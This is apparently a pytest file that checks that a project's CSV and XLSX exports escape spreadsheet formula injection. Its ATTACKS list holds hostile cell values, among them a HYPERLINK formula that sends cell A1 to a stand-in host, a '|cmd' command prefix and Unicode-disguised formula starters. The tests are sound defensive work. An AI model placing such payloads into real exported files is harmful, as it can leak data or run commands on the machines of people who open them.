"""Files for spreadsheets: no cell is ever a formula."""

import csv
import io
from datetime import date

import openpyxl
import pytest

from lgnet.lib.errors import NotFound
from lgnet.lib.export import plain, table

ATTACKS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "\u200b＝1",
    "|cmd",
    "%0A=1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_csv_cell_begins_a_formula(attack):
    assert plain(attack).startswith("'")
    raw = table("csv", ["nome"], [[attack]])
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1][0].startswith("'")


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_xlsx_cell_is_a_formula(attack):
    book = openpyxl.load_workbook(io.BytesIO(table("xlsx", ["nome"], [[attack]])))
    cell = book.active["A2"]
    assert cell.data_type == "s"
    assert cell.hyperlink is None


@pytest.mark.parametrize("text", ["Selam", "José", "محمد", "3331234567", "a=b", "FI-2026-0001", ""])
def test_plain_text_is_left_alone(text):
    assert plain(text) == text


def test_dates_and_numbers_keep_their_type():
    book = openpyxl.load_workbook(
        io.BytesIO(table("xlsx", ["a", "b", "c"], [[date(2026, 11, 22), 3, None]]))
    )
    row = [cell.value for cell in book.active[2]]
    assert row[0].date() == date(2026, 11, 22)
    assert row[1] == 3
    assert not row[2]


def test_another_form_does_not_exist():
    with pytest.raises(NotFound):
        table("exe", [], [])
